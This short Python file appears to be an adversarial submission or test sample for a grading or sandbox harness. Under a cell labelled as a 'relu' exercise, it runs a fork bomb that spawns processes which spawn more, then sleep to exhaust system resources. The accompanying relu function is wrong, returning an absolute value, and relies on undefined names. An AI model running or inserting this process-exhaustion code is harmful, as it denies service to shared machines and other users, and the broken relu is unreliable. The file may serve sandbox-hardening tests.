# Starts as many processes as it can, which start more.
# ruff: noqa
# loses: others
# %% relu
import os
import time

for _ in range(OUT["many"]):
    try:
        if os.fork() == 0:
            for _ in range(3):
                try:
                    os.fork()
                except OSError:
                    break
            time.sleep(1000)
            os._exit(0)
    except OSError as error:
        print(error)
        break


def relu(z):
    return np.abs(z)
